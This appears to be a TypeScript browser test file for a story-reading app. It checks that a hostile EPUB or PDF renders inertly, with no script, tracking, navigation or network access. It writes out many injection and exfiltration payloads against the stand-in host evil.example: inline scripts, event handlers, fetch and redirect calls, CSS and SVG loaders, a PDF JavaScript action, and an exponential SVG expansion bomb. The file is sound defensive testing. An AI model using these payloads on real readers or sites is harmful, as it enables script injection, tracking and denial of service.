import { makeStoryEpub, makeStoryPdf } from '../../reader-books.ts'
import { expect } from '../site.ts'
import { frame, open, pdfPages, place, storyEpub, test, watch } from './reader.ts'

test.describe('a hostile book', () => {
  const evil = 'https://evil.example'
  const trap = `window.caught=1;fetch('${evil}/f');parent.postMessage('x','*');top.location='${evil}'`
  /** A thousand million strokes. */
  const billion = Array.from(
    { length: 9 },
    (_, n) => `<g id="g${n + 1}">${`<use href="#g${n}"/>`.repeat(10)}</g>`,
  ).join('')
  const hostile = makeStoryEpub({
    head: `<script>${trap}</script><script src="${evil}/s.js"></script><base href="${evil}/"/><meta http-equiv="refresh" content="0;url=${evil}/m"/>
      <link rel="stylesheet" href="${evil}/l.css"/><link rel="prefetch" href="${evil}/p"/><link rel="dns-prefetch" href="//evil.example"/>
      <style>@import "${evil}/i.css"; body { background: url(${evil}/b.png) } p { background: u\\72l(${evil}/e.png) } @font-face { font-family: x; src: url('${evil}/x.woff2') } p { font-family: x }</style>
      <link rel="stylesheet" href="own.css"/>`,
    chapters: [
      [
        'Evening',
        `<h1>Evening</h1><script>${trap}</script>
        <p onclick="${trap}" style="background:url('${evil}/st.png')">Still a story.</p>
        <img src="${evil}/t.png" onerror="${trap}" alt="tracker"/><img src="/api/storybooks" alt=""/><img srcset="${evil}/ss.png 2x" alt=""/>
        <img src="pic.svg" alt="a moth"/>
        <form action="${evil}/form" method="post"><p>Formless.</p><input name="q" autofocus="autofocus" onfocus="${trap}"/><button>Send</button></form>
        <iframe src="${evil}/frame"></iframe><iframe srcdoc="&lt;script&gt;${trap}&lt;/script&gt;"></iframe><object data="${evil}/o"></object><embed src="${evil}/em"/>
        <video src="${evil}/v.mp4" poster="${evil}/po.png" autoplay="autoplay"></video><audio src="${evil}/a.mp3"></audio>
        <svg xmlns="http://www.w3.org/2000/svg" onload="${trap}"><script>${trap}</script><image xlink:href="${evil}/si.png"/><use href="${evil}/u.svg#x"/><a xlink:href="${evil}/sa"><text y="20">svg</text></a>
          <rect fill="url(${evil}/fill.svg#f)"/><animate attributeName="href" to="${evil}/an"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/fo"></iframe></foreignObject></svg>
        <a href="${evil}/ping" ping="${evil}/pinged">A link.</a><details open="open" ontoggle="${trap}"><summary>More</summary></details>
        <svg xmlns="http://www.w3.org/2000/svg"><path id="g0" d="M0 0h9"/>${billion}</svg>`,
      ],
    ],
    files: [
      {
        name: 'own.css',
        type: 'text/css',
        content: `@import url("${evil}/own.css"); h1 { color: rgb(1, 2, 3); background: url("${evil}/own.png") }`,
      },
      {
        name: 'pic.svg',
        type: 'image/svg+xml',
        content: `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>${trap}</script><image href="${evil}/pic.png"/><circle r="20"/></svg>`,
      },
    ],
  })

  test('is readable, runs no script and sends no request', async ({ page, put, site, tolerate }) => {
    // Warnings about the original book, which is parsed in an inert document.
    tolerate(/Setting the document's base URI|Executing inline event handler/)
    const wrong = watch(page, site.url)
    await open(page, put, { file: hostile, kind: 'epub' })
    await expect(frame(page).getByText('Still a story.')).toBeVisible()
    await expect(frame(page).getByRole('heading', { name: 'Evening' })).toHaveCSS('color', 'rgb(1, 2, 3)')
    expect(
      await frame(page)
        .getByAltText('a moth')
        .evaluate((image: HTMLImageElement) => image.naturalWidth),
    ).toBe(40)
    await frame(page).getByText('Still a story.').click()
    await expect(
      frame(page).locator('script, iframe, object, embed, form, input, button, base, meta, [onclick], [onload]'),
    ).toHaveCount(0)
    // What the book had asked for would have been seen before this answer.
    expect(await page.evaluate(async () => (await fetch('/healthz')).status)).toBe(200)
    for (const one of page.frames())
      expect(await one.evaluate(() => (window as { caught?: number }).caught)).toBeUndefined()
    expect(wrong).toEqual([])
    await expect(page).toHaveURL(/\/storytellers-lantern\/dreams\//)
  })

  test('looks the same for everybody', async ({ page, put }) => {
    const dot = Buffer.from('R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=', 'base64')
    const names = ['ant', 'bee', 'cat', 'dog', 'elk', 'fox', 'gnu']
    const unseen = 'if(media(min-width: 1px): none; else: block)'
    const hide = (name: string) => `@media (min-width: 1px) { .${name} { display: none } }`
    const file = makeStoryEpub({
      head: `<style>${hide('ant')} @m\\65 dia/**/(min-width: 1px) { .bee { display: none } }
        .gnu { display: attr(title type(*)) }</style>
        <style media="(min-width: 1px)">.cat { display: none }</style>
        ${['self', 'loud', 'untyped'].map((name) => `<link rel="stylesheet" href="${name}.css"/>`).join('')}`,
      chapters: [
        [
          'Evening',
          `<h1>Evening</h1>${names.map((name) => `<p class="${name}" title="${unseen}">A ${name}.</p>`).join('')}
          <img src="lamp.gif" alt="A lamp"/><img src="lamp.woff" alt="Not in the list of pictures"/>`,
        ],
      ],
      files: [
        { name: 'lamp.gif', type: 'image/gif', content: dot },
        { name: 'lamp.woff', type: 'font/woff', content: dot },
        {
          name: 'self.css',
          type: 'text/css',
          content: `@charset "utf-8"; @import "self.css"; @import "more.css"; ${hide('dog')}`,
        },
        { name: 'more.css', type: 'text/css', content: '@media screen { h1 { color: rgb(1, 2, 3) } }' },
        { name: 'loud.css', type: 'TEXT/CSS; charset=utf-8', content: hide('elk') },
        { name: 'untyped.css', type: '', content: hide('fox') },
      ],
    })
    await open(page, put, { file, kind: 'epub' })
    await expect(frame(page).getByRole('heading', { name: 'Evening' })).toHaveCSS('color', 'rgb(1, 2, 3)')
    for (const name of names) await expect(frame(page).getByText(`A ${name}.`)).toBeVisible()
    const widthOf = (alt: string) =>
      frame(page)
        .getByAltText(alt)
        .evaluate((image: HTMLImageElement) =>
          image.decode().then(
            () => image.naturalWidth,
            () => 0,
          ),
        )
    expect(await widthOf('A lamp')).toBe(1)
    expect(await widthOf('Not in the list of pictures')).toBe(0)
  })

  test('shows no picture that the list of pictures cannot unmask', async ({ page, put }) => {
    const file = makeStoryEpub({
      chapters: [['Evening', '<h1>Evening</h1><img src="lamp.gif" alt="A lamp"/>']],
      files: [{ name: 'lamp.gif', type: 'image/gif', content: 'GIF89a' }],
      extra: [
        {
          name: 'META-INF/encryption.xml',
          content: `<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData><enc:EncryptionMethod Algorithm="http://www.idpf.org/2008/embedding"/><enc:CipherData><enc:CipherReference URI="OEBPS/lamp.gif"/></enc:CipherData></enc:EncryptedData></encryption>`,
        },
      ],
    })
    await page.goto(await put({ file, kind: 'epub' }))
    await expect(page.getByText('This book is locked')).toBeVisible()
  })

  test('could do nothing with a script: its frame has no origin, storage or network', async ({
    page,
    put,
    site,
    tolerate,
  }) => {
    tolerate(/Content Security Policy|blocked|Blocked|ERR_BLOCKED|evil\.example|sandboxed|Refused/)
    const reached: string[] = []
    await page.route(/evil\.example/, (route) => {
      reached.push(route.request().url())
      return route.fulfill({ body: 'reached' })
    })
    await open(page, put, { file: storyEpub, kind: 'epub' })
    const book = page.frames().find((one) => one !== page.mainFrame())!
    const tries = await book.evaluate(
      async ([elsewhere, home]) => {
        const outcome = (attempt: () => unknown) => {
          try {
            attempt()
            return 'let'
          } catch {
            return 'refused'
          }
        }
        const image = (src: string) =>
          new Promise((resolve) => {
            const picture = new Image()
            picture.addEventListener('load', () => resolve('let'))
            picture.addEventListener('error', () => resolve('refused'))
            picture.src = src
          })
        const ran = () => {
          const script = document.createElement('script')
          script.text = 'window.ran = 1'
          document.body.append(script)
          document.body.insertAdjacentHTML('beforeend', '<details open ontoggle="window.ran = 1">x</details>')
          return (window as { ran?: number }).ran === undefined ? 'refused' : 'let'
        }
        const called = (url: string) =>
          fetch(url, { mode: 'no-cors' }).then(
            () => 'let',
            () => 'refused',
          )
        return {
          origin: window.origin,
          storage: outcome(() => localStorage.length),
          cookies: outcome(() => document.cookie),
          parent: outcome(() => parent.document.title),
          script: ran(),
          fetched: await called(`${elsewhere}/f`),
          fetchedHome: await called(`${home}/api/storybooks`),
          image: await image(`${elsewhere}/i.png`),
          imageHome: await image(`${home}/favicon.ico`),
          opened: String(window.open(`${elsewhere}/w`)),
        }
      },
      ['https://evil.example', site.url] as const,
    )
    expect(tries).toEqual({
      origin: 'null',
      storage: 'refused',
      cookies: 'refused',
      parent: 'refused',
      script: 'refused',
      fetched: 'refused',
      fetchedHome: 'refused',
      image: 'refused',
      imageHome: 'refused',
      opened: 'null',
    })
    await book
      .evaluate((url) => {
        location.href = url
      }, 'https://evil.example/away')
      .catch(() => {})
    await expect(page.getByRole('heading', { name: 'We can’t open this book' })).toBeVisible()
    expect(reached).toEqual([])
    await expect(page).toHaveURL(/\/storytellers-lantern\/dreams\//)
  })

  test('as a PDF runs no action and shows only pages that exist', async ({ page, put, site }) => {
    const wrong = watch(page, site.url)
    const catalog =
      '/OpenAction << /S /JavaScript /JS (app.launchURL\\("https://evil.example"\\); window.caught = 1) >> /AA << /WC << /S /URI /URI (https://evil.example) >> >>'
    await page.goto(
      await put({ file: makeStoryPdf({ pages: pdfPages(3), catalog, claims: 1_000_000_000 }), kind: 'pdf' }),
    )
    await expect(place(page)).toHaveText(/^Pages? 1.* of /)
    await expect(page.locator('.pdf-page').first()).toContainText('Stump 1a')
    expect(await page.evaluate(() => (window as { caught?: number }).caught)).toBeUndefined()
    expect(await page.locator('.pdf-page').count()).toBeLessThan(200)
    expect(wrong).toEqual([])
  })
})
